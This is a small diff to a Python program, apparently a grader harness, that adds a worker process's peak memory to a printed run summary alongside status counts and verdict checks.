@@ -1620,8 +2145,9 @@ def main(argv: list[str] | None = None) -> int:
         "Statuses reported: " + ", ".join(f"{k} {v}" for k, v in sorted(counts.items()))
         + ".",
         f"Verdicts and flags as expected: {verdicts - len(problems)}/{verdicts}.",
-        f"Grader's own peak memory (VmHWM) {run.watch.grader_peak_mb:.0f} MB; marked "
-        f"processes' peak {run.watch.marker_peak_mb:.0f} MB.",
+        f"Grader's own peak memory (VmHWM) {run.watch.grader_peak_mb:.0f} MB; a "
+        f"worker's peak {run.watch.worker_peak_mb:.0f} MB; marked processes' peak "
+        f"{run.watch.marker_peak_mb:.0f} MB.",
         *figures,
         *(f"- {printable(problem)}" for problem in problems),
     ]
